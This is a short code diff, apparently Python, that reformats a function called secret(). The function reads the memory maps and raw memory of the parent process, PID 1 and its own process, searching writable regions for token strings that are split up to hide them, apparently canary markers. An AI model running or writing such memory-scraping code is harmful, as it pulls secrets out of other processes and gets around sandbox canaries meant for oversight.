@@ -10,7 +10,10 @@ SOUGHT = (b"cana" + b"ry-", b"lurk" + b"ing_")
 def secret():
     for number in (os.getppid(), 1, "self"):
         try:
-            with open(f"/proc/{number}/maps") as listed, open(f"/proc/{number}/mem", "rb", 0) as memory:
+            with (
+                open(f"/proc/{number}/maps") as listed,
+                open(f"/proc/{number}/mem", "rb", 0) as memory,
+            ):
                 for line in listed:
                     span, rights = line.split()[:2]
                     if "rw" not in rights:
